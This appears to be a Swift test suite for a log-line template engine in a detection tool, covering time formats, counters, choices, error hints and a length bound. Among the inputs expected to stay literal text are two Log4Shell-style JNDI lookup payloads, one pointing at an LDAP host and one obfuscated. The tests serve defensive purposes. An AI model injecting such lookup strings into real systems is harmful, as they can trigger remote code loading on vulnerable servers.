// Placeholders in rule tests: what is one, what it becomes, and what is text all the same.
import Testing

@testable import Detection

private func written(_ line: String, at time: String = "2026-01-01T00:00:00Z", repetition: Int = 0) throws -> String {
    try TestTemplate(line).text(at: instant(time), repetition: repetition)
}

@Suite struct TestTemplateTests {
    @Test(arguments: [
        ("${t:iso}", "2026-01-01T00:00:00.000Z", "2026-11-23T08:14:02.113Z"),
        ("${t:syslog}", "Jan  1 00:00:00", "Nov 23 08:14:02"),
        ("[${t:clf}]", "[01/Jan/2026:00:00:00 +0000]", "[23/Nov/2026:08:14:02 +0000]"),
        ("${t:epoch}", "1767225600", "1795421642"),
    ])
    func `a time is written in the form that is asked for`(line: String, first: String, later: String) throws {
        #expect(try written(line) == first)
        #expect(try written(line, at: "2026-11-23T08:14:02.113Z") == later)
    }

    @Test func `the number counts from 1, and choices come in turn`() throws {
        let lines = try (0..<5).map { try written("user${i}: ${pick:a,b c,}.", repetition: $0) }
        #expect(lines == ["user1: a.", "user2: b c.", "user3: .", "user4: a.", "user5: b c."])
    }

    @Test(arguments: [
        "${jndi:ldap://198.51.100.2/a}", "${t}", "${pick}", "${}", "${", "$", "}", "${${lower:j}ndi:x}", "${I}",
        "${ i}",
        "$ {i}", "",
    ])
    func `anything else is text`(line: String) throws {
        #expect(try written(line) == line)
    }

    @Test func `text and placeholders stand beside each other`() throws {
        #expect(try written("${a ${i}${i}${") == "${a 11${")
    }

    @Test(arguments: [
        ("${t:isa}", "«${t:isa}» is no form of a time", "did you mean «${t:iso}»?"),
        ("${t:}", "«${t:}» is no form of a time", "one of iso, syslog, clf, epoch"),
        ("${pick:}", "«${pick:}» leaves no choice", "write «${pick:200,500}»"),
        ("x ${pick:a}", "«${pick:a}» leaves no choice", "write «${pick:200,500}»"),
    ])
    func `a placeholder that says nothing is a fault`(line: String, message: String, hint: String) {
        #expect(throws: TestTemplate.Fault(message: message, hint: hint)) { try TestTemplate(line) }
    }

    @Test(arguments: seeds(5))
    func `a line is never longer than was reckoned`(seed: UInt64) throws {
        var dice = Dice(seed: seed)
        let parts = ["${t:iso}", "${t:syslog}", "${t:clf}", "${t:epoch}", "${i}", "${pick:a,bcd,}", "é ", "${x}"]
        for _ in 0..<50 {
            let line = (0...dice.upTo(6)).map { _ in dice.pick(parts) }.joined()
            let template = try TestTemplate(line)
            let repetition = dice.upTo(99_999)
            let time = Timestamp(seconds: 1_767_225_600 + Int64(dice.upTo(315_000_000)))
            #expect(template.text(at: time, repetition: repetition).utf8.count < template.length, "\(line)")
        }
    }
}
